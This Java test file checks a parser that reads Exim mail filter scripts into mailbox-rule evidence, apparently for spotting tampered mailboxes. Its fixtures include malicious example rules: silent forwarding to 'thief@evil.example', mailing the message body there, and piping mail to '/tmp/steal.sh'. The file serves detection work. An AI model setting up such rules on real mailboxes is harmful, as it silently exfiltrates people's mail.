package org.mimawari.connector.export.script;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.mimawari.connector.export.ExportFiles;
import org.mimawari.evidence.AutoReply;
import org.mimawari.evidence.MailboxRule;
import org.mimawari.evidence.RuleAction;
import org.mimawari.evidence.RuleAction.Type;
import org.mimawari.evidence.RuleCondition;
import org.mimawari.evidence.RuleCondition.Field;
import org.mimawari.evidence.RuleTrait;

class EximFilterTest {

    private static final EximFilter LANGUAGE = new EximFilter();
    private static final String HEAD = "# Exim filter\n";

    @TempDir
    private Path folder;

    private static MailboxRule only(String text) {
        assertThat(Filters.rules(LANGUAGE, HEAD + text)).hasSize(1);
        return Filters.rules(LANGUAGE, HEAD + text).get(0);
    }

    @Test
    void isKnownByItsFirstLine() {
        ExportFiles files = new ExportFiles(folder);
        FilterFiles reader = new FilterFiles(LANGUAGE);
        assertThat(ExportFiles.recognises(reader, files.file(".forward", "#   Exim filter  <<== do not edit\ndeliver a@b.example\n")))
                .isGreaterThan(90);
        assertThat(ExportFiles.recognises(reader, files.file("x", "# about the Exim filter\n"))).isZero();
    }

    @Test
    void aDeliveryKeepsNoCopyUnlessUnseen() {
        MailboxRule rule = only("deliver thief@evil.example");
        assertThat(rule.actions()).containsExactly(RuleAction.of(Type.REDIRECT, "thief@evil.example"));
        assertThat(rule.traits()).containsExactly(RuleTrait.KEEPS_NO_COPY);
        assertThat(only("unseen deliver \"thief@evil.example\"").traits()).isEmpty();
        assertThat(only("deliver thief@evil.example\ndeliver $local_part").traits()).isEmpty();
    }

    @Test
    void readsConditions() {
        MailboxRule rule = only("""
                if $h_subject: contains "請求" or $header_from: does not match "@shop\\\\.example" then
                  save $home/Mail/RSS 600
                  finish
                endif
                """);
        assertThat(rule.conditions()).containsExactly(RuleCondition.of(Field.SUBJECT, List.of("請求")),
                new RuleCondition(Field.SENDER, true, List.of("@shop\\.example")));
        assertThat(rule.traits()).containsExactlyInAnyOrder(RuleTrait.ANY_CONDITION, RuleTrait.STOPS);
        assertThat(rule.actions()).first().isEqualTo(RuleAction.of(Type.MOVE, "$home/Mail/RSS"));
    }

    @Test
    void alternativesTurnEarlierConditionsRound() {
        List<MailboxRule> rules = Filters.rules(LANGUAGE, HEAD + """
                if error_message then seen finish
                elif $message_size is above 10K then save /dev/null
                else unseen pipe "/tmp/steal.sh x"
                endif
                """);
        assertThat(rules).extracting(rule -> rule.actions().get(0).type()).containsExactly(Type.DISCARD, Type.DISCARD, Type.EXECUTE);
        assertThat(rules.get(2).conditions()).containsExactly(new RuleCondition(Field.IS_BOUNCE, true, List.of()),
                new RuleCondition(Field.SIZE_AT_LEAST, true, List.of("10240")));
    }

    @Test
    void vacationIsAReplyAndMailToOthersIsANotification() {
        assertThat(Filters.read(LANGUAGE, HEAD + "if personal then mail to $reply_address subject \"Away\" text \"Soon\" endif"))
                .filteredOn(AutoReply.class::isInstance).singleElement().extracting(piece -> ((AutoReply) piece).text())
                .isEqualTo(Optional.of("Soon"));
        assertThat(only("mail to thief@evil.example subject x text \"$message_body\"").actions())
                .containsExactly(RuleAction.of(Type.NOTIFY, "thief@evil.example"));
    }

    @Test
    void whatIsNotUnderstoodIsSaidOnce() {
        List<MailboxRule> rules = Filters.rules(LANGUAGE, HEAD + "deliver a@evil.example\nwhat is this\nendif");
        assertThat(rules).extracting(MailboxRule::readable).containsExactlyInAnyOrder(true, false);
    }
}
